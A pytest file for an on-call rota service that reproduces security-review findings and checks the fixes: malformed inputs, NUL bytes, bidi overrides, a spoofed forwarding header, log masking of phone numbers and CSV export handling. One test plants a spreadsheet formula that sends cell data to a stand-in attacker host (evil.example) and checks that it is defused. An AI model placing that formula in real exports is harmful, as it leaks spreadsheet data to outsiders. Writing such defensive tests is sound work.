"""Issue 14's findings on input, logs and CSV, each reproduced as reported: M1 (personal data in
the log), M2 (unauthenticated 500s), L1 (authenticated 500s), L2 (formulas in the rota CSV), L7
(a CSV cut short in silence) and I3 (notice, route-named codes, direction overrides, the proxy's
address in the sign-in log). On both databases (the `database` fixture)."""

from __future__ import annotations

import io
import logging
import re
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
import structlog
from aiohttp import web
from sqlalchemy import func, select, text

from oncall.db.engine import Database
from oncall.db.models import Person, Unavailability
from oncall.domain.rota import export_csv
from oncall.domain.spreadsheet import FAILED_LINE
from oncall.log import configure_logging, get_logger
from oncall.web.auth import CSRF_HEADER
from oncall.web.ui.audit.reports import _stream_csv
from tests.e2e.conftest import publish_friday_night
from tests.ui.conftest import ClientFactory, Site, csrf

PLANT = "Zq7plantXv"
PHONE = "07797 123456"


@pytest.fixture
def captured() -> Iterator[io.StringIO]:
    """The service's log lines (structlog and stdlib) as JSON, during the test."""
    stream = io.StringIO()
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    configure_logging(log_format="json", level="debug", stream=stream)
    yield stream
    structlog.reset_defaults()
    root.handlers[:] = handlers
    root.setLevel(level)


async def _count(database: Database, model: type[object]) -> int:
    async with database.sessions() as session:
        return int(await session.scalar(select(func.count()).select_from(model)) or 0)


# --- M2: unauthenticated requests that were 500s ---------------------------------------------


@pytest.mark.parametrize(
    ("body", "content_type", "field"),
    [
        (b"username=%00&password=x", "application/x-www-form-urlencoded", "username"),
        (b"\xff\xfe\xfd", "application/x-www-form-urlencoded", "body"),
        (b"username=%FF%FE&password=x", "application/x-www-form-urlencoded", "body"),
        (b"username=a", "application/x-www-form-urlencoded; charset=utf-77", "body"),
        (b"--x\r\nusername\r\n--x--\r\n", "multipart/form-data", "body"),
    ],
)
async def test_m2_a_broken_sign_in_body_is_a_400_naming_the_field(
    site: Site, body: bytes, content_type: str, field: str
) -> None:
    client = await site.client()
    answer = await client.post("/login", data=body, headers={"Content-Type": content_type})
    assert answer.status == 400
    assert answer.reason is not None and answer.reason.startswith(f"{field}: ")


# --- L1: authenticated requests that were 500s ------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/lines/numbers/%2B9999999999/delete",
        "/lines/numbers/1_000_000_000_000/delete",
        "/lines/numbers/\u0661\u0662/delete",
        "/staff/sw002/leave/1_000_000_000_000/delete",
        "/staff/sw002/leave/\u0661/delete",
        "/staff/sw002/requests/99999999999999999999/delete",
        "/requests/swaps/\u0661\u0662\u0663",
        "/requests/swaps/2147483648",
        "/rota/2027-01/v/\u0661/lock",
        "/rota/2027-01/v/%2B1/lock",
        "/rota/9999-12/v/1/lock",
    ],
)
async def test_l1_an_id_that_is_not_ascii_digits_in_range_is_a_400(site: Site, path: str) -> None:
    client = await site.client("coordinator")
    token = await csrf(client)
    answer = await client.post(path, data={"csrf_token": token}, allow_redirects=False)
    assert answer.status == 400, (path, answer.status)
    assert answer.reason is not None and re.match(r"(id|number|month): ", answer.reason)


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/audit?caller=%2B447797910000%00", "caller"),
        ("/audit/events?kind=%00", "kind"),
        ("/audit/events?before=9223372036854775808", "before"),
        ("/audit?to=9999-12-31", "to"),
        ("/audit?from=0001-01-01", "from"),
        ("/audit/handover?date=0001-01-01", "date"),
        ("/audit/handover.csv?date=9999-12-31", "date"),
        ("/audit/export/contacts.csv?from=0001-01-01&to=9999-12-31", "from"),
        ("/audit/kpis?from=%D9%A1", "from"),
    ],
)
async def test_l1_bad_audit_filters_are_a_400_naming_them(
    site: Site, path: str, field: str
) -> None:
    client = await site.client("manager")
    answer = await client.get(path, allow_redirects=False)
    assert answer.status == 400, (path, answer.status)
    assert answer.reason is not None and answer.reason.startswith(f"{field}: ")
    assert await answer.text() != "" and "Zq7" not in answer.reason


async def test_l1_arabic_indic_digits_never_reach_a_route_that_wants_a_number(site: Site) -> None:
    client = await site.client("manager")
    answer = await client.get("/audit/contacts/\u0661\u0662\u0663", allow_redirects=False)
    assert answer.status in (400, 404)  # the route takes [0-9]+ only


async def test_l1_nul_in_a_staff_code_and_in_text_fields_is_a_400_and_nothing_is_written(
    site: Site,
) -> None:
    client = await site.client("coordinator")
    assert (await client.get("/staff/%00", allow_redirects=False)).status == 400
    token = await csrf(client)
    before = await _count(site.database, Unavailability)
    for data in (
        {"start": "2027-02-01", "end": "2027-02-02", "reason": "annual_leave", "note": "a\x00b"},
        {"start": "9999-12-31", "end": "9999-12-31", "reason": "annual_leave", "note": ""},
        {"start": "0001-01-01", "end": "0001-01-02", "reason": "annual_leave", "note": ""},
    ):
        answer = await client.post(
            "/staff/sw002/leave", data={"csrf_token": token, **data}, allow_redirects=False
        )
        assert answer.status in (303, 400), answer.status  # refused: a 400 or the form's notice
    assert await _count(site.database, Unavailability) == before


async def test_l12_the_leave_form_refuses_dates_the_csv_import_refuses(site: Site) -> None:
    client = await site.client("coordinator")
    token = await csrf(client)
    before = await _count(site.database, Unavailability)
    for start, end in (("1900-01-01", "1900-01-02"), ("2100-01-01", "2100-01-02")):
        await client.post(
            "/staff/sw002/leave",
            data={"csrf_token": token, "start": start, "end": end, "reason": "annual_leave"},
            allow_redirects=False,
        )
    assert await _count(site.database, Unavailability) == before


# --- I3: codes that name pages, direction overrides, the sign-in log --------------------------


def _person(code: str, name: str = "Quinn Example") -> dict[str, str]:
    return {"code": code, "name": name, "tier": "worker", "job_title": "Social worker",
            "phone": "07797 100200", "fte": "1"}  # fmt: skip


@pytest.mark.parametrize(
    ("code", "name"),
    [("new", "Quinn Example"), ("templates", "Quinn Example"), ("leave-import", "Quinn"),
     ("qe001", "Quinn \u202eelpmaxE"), ("qe002", "Quinn \u2066Example")],
)  # fmt: skip
async def test_i3_codes_naming_staff_pages_and_direction_overrides_are_refused(
    site: Site, code: str, name: str
) -> None:
    client = await site.client("coordinator")
    token = await csrf(client)
    before = await _count(site.database, Person)
    answer = await client.post(
        "/staff/new", data={"csrf_token": token, **_person(code, name)}, allow_redirects=False
    )
    assert answer.status in (200, 303, 400)
    assert await _count(site.database, Person) == before


def test_i3_every_fixed_page_under_staff_is_a_reserved_code() -> None:
    from oncall.app import create_app
    from oncall.domain.people.staff import RESERVED_CODES
    from oncall.settings import Settings

    app = create_app(Settings(database_url="sqlite+aiosqlite:///:memory:"))
    fixed = {
        r.resource.canonical.split("/")[2]
        for r in app.router.routes()
        if r.resource is not None and re.fullmatch(r"/staff/[a-z][a-z0-9_-]+", r.resource.canonical)
    }
    assert fixed and fixed <= RESERVED_CODES


async def test_i3_the_sign_in_failure_log_names_the_client_not_the_proxy(
    site: Site, captured: io.StringIO
) -> None:
    client = await site.client()
    # The test client connects from loopback: the trusted proxy by default.
    answer = await client.post(
        "/login",
        data={"username": f"{PLANT} {PHONE}", "password": "wrong"},
        headers={"X-Forwarded-For": "198.51.100.9, 203.0.113.5"},
        allow_redirects=False,
    )
    assert answer.status == 401
    lines = [line for line in captured.getvalue().splitlines() if "sign-in failed" in line]
    assert lines and '"client": "203.0.113.5"' in lines[0]
    assert PLANT not in captured.getvalue()


# --- M1: personal data in the log -------------------------------------------------------------


def test_m1_a_traceback_is_masked_like_any_other_field(captured: io.StringIO) -> None:
    log = get_logger("tests.findings")
    try:
        raise ValueError(f"notes: mum on {PHONE}")
    except ValueError:
        log.exception("failed")
        logging.getLogger("tests.findings.stdlib").exception("failed in stdlib")
    written = captured.getvalue()
    assert written.count("Traceback") == 2
    assert "07797" not in written and "123456" not in written.replace("********456", "")


async def test_m1_sql_parameters_are_never_in_an_error_or_the_log(
    database: Database, captured: io.StringIO
) -> None:
    with pytest.raises(Exception) as raised:  # noqa: PT011 - whichever driver error it is
        async with database.engine.connect() as conn:
            await conn.execute(text("SELECT :v FROM no_such_table"), {"v": f"{PLANT} {PHONE}"})
    assert PLANT not in str(raised.value)
    assert PLANT not in captured.getvalue()


async def test_m1_a_page_request_with_notes_in_its_url_is_not_logged_as_typed(
    site: Site, captured: io.StringIO
) -> None:
    client = await site.client("coordinator")
    await client.get(f"/staff/{PLANT}%20disclosed%20harm%20{PHONE}", allow_redirects=False)
    await client.get("/audit?caller=%2B447797910000%00", allow_redirects=False)
    written = captured.getvalue()
    assert PLANT not in written and "7797910000" not in written


# --- L2: formulas in every CSV ----------------------------------------------------------------


async def test_l2_the_rota_csv_defuses_a_formula_in_a_name(site: Site) -> None:
    await publish_friday_night(site.database)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Quinn")'
    async with site.database.sessions() as session:
        person = await session.scalar(select(Person).where(Person.code == "sw002"))
        assert person is not None
        person.name = formula
        await session.commit()
        body = await export_csv(session, "2027-01", zone=site.settings.zone)
    assert "'=HYPERLINK" in body and ',"=HYPERLINK' not in body


def test_l2_every_csv_the_service_writes_goes_through_the_one_helper() -> None:
    root = Path(__file__).parents[2] / "oncall"
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8")
    ]
    assert writers == ["domain/spreadsheet.py"]


# --- L7: an export that fails part way says so ------------------------------------------------


async def test_l7_a_csv_that_fails_part_way_ends_with_a_visible_error_line(
    aiohttp_client: ClientFactory,
) -> None:
    async def chunks() -> AsyncIterator[str]:
        yield "reference,notes\r\n"
        yield "OOH-2027-00001,fine\r\n"
        raise RuntimeError("the database went away")

    async def handler(request: web.Request) -> web.StreamResponse:
        return await _stream_csv(request, "contacts.csv", chunks())

    app = web.Application()
    app.router.add_get("/x.csv", handler)
    client = await aiohttp_client(app)
    answer = await client.get("/x.csv")
    body = await answer.text()
    assert body.startswith("reference,notes\r\nOOH-2027-00001,fine\r\n")
    assert body.endswith(FAILED_LINE)


async def test_l7_an_export_checks_its_dates_before_the_first_byte(site: Site) -> None:
    client = await site.client("manager")
    answer = await client.get("/audit/export/contacts.csv?from=0001-01-01&to=9999-12-31")
    assert answer.status == 400 and "reference" not in await answer.text()
    header = {CSRF_HEADER: "x"}  # a GET needs none; only to show headers do not matter here
    ok = await client.get(
        "/audit/export/contacts.csv?from=2027-01-01&to=2027-01-31", headers=header
    )
    assert ok.status == 200 and (await ok.text()).startswith("reference,")


# --- I3: the notice is a one-time message in the session, not a query parameter ----------------


async def test_i3_notice_in_the_url_is_not_shown_and_a_real_notice_shows_once(site: Site) -> None:
    client = await site.client("coordinator")
    spoof = await client.get("/lines?notice=Call%20the%20helpdesk%20on%2007797%20000000")
    assert "helpdesk" not in await spoof.text()
    token = await csrf(client)
    saved = await client.post(
        "/lines/callers",
        data={"csrf_token": token, "name": "", "agency": "police", "number": ""},
        allow_redirects=False,
    )
    assert saved.status == 303 and "notice" not in saved.headers["Location"]
    first = await (await client.get(saved.headers["Location"])).text()
    assert 'class="notice" role="status"' in first
    again = await (await client.get(saved.headers["Location"])).text()
    assert 'class="notice" role="status"' not in again
